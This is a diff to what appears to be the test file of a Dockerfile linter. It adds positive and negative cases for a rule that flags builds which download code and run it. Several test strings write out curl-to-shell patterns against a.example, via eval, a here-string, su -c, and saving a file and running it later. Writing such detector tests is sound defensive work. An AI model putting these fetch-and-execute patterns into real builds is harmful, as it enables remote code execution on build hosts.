@@ -69,6 +69,30 @@ HITS: dict[str, tuple[str, set[Found]]] = {
         HEAD + 'SHELL ["/bin/sh", "-c", "curl https://a.example/x | sh; true"]\nRUN true\n',
         {("build/remote-script", 2, "medium")},
     ),
+    "the command itself": (
+        HEAD + "RUN true && \\\n    $(curl -fsSL https://a.example/x)\n",
+        {("build/remote-script", 3, "medium")},
+    ),
+    "a variable": (
+        HEAD + 'RUN S=$(curl https://a.example/x) && \\\n    eval "$S"\n',
+        {("build/remote-script", 3, "medium")},
+    ),
+    "a here-string": (
+        HEAD + 'SHELL ["/bin/bash", "-c"]\nRUN bash <<< "$(curl https://a.example/x)"\n',
+        {("build/remote-script", 3, "medium")},
+    ),
+    "kept in one step, run in another": (
+        HEAD + "RUN curl -o /tmp/x https://a.example/x\nRUN chmod +x /tmp/x\nCMD /tmp/x\n",
+        {("build/remote-script", 4, "high")},
+    ),
+    "moved, then run by its name": (
+        HEAD + "RUN curl -O https://a.example/setup.sh && install -m 755 setup.sh /usr/local/bin/\nRUN setup.sh\n",
+        {("build/remote-script", 3, "medium")},
+    ),
+    "another user's shell": (
+        HEAD + 'RUN su -c "$(curl https://a.example/x)"\n',
+        {("build/remote-script", 2, "medium")},
+    ),
     # ---- build/tunnel-tool
     "apt": (
         HEAD
@@ -172,6 +196,12 @@ MISSES: dict[str, str] = {
     "added with a checksum": HEAD + "ADD --checksum=sha256:ab https://a.example/x.sh /x.sh\nRUN sh /x.sh\n",
     "fetched as data": HEAD
     + "RUN curl https://a.example/x | jq . && curl https://a.example/y | python3 -m json.tool\n",
+    "given as words": HEAD
+    + 'RUN V=$(curl https://a.example/v) && sh build.sh "$V" && ./configure --v="$(curl https://a.example/v)"\n',
+    "worked on": HEAD + "RUN curl https://a.example/x | /opt/install-data && curl https://a.example/x | sh import.sh\n",
+    "a program by its name": HEAD + "RUN curl -o /usr/local/bin/kubectl https://a.example/kubectl && kubectl version\n",
+    "waits for a server": HEAD + "RUN until $(curl -o /dev/null -sf http://a.example/up); do sleep 1; done\n",
+    "from here": HEAD + "RUN curl http://localhost:8000/x | sh\n",
     "only said": HEAD + 'RUN echo "curl https://a.example/x | sh"\n',
     "commented": HEAD + "# RUN curl https://a.example/x | sh\nRUN true\n",
     "file of its own": HEAD + "RUN curl -o data https://a.example/x && sh build.sh\n",
